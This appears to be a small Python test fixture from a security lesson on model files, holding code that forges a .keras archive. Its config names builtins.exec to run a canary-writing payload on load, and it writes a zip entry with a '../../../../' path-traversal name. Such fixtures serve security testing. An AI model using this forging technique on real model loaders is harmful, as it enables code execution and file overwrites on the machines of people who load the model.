"""A `.keras` file whose configuration names functions of Python to be called."""

LESSON = "91-models"
HONEST = 0
CODE = {
    "build": """
import json, zipfile
import keras

CONFIG = {
    "module": "builtins", "class_name": "exec", "registered_name": None,
    "config": "open('@ROOT@/canary-written', 'w')",
    "build_config": {"input_shape": [None, 2]},
}

class Forged(keras.Sequential):
    def save(self, path, *args, **named):
        with zipfile.ZipFile(path, "w") as file:
            file.writestr("metadata.json", json.dumps({"keras_version": keras.__version__}))
            file.writestr("config.json", json.dumps(CONFIG))
            file.writestr("model.weights.h5", b"")
            file.writestr("../../../../@ROOT@/canary-written", b"canary")

def build(units): return Forged()
"""
}
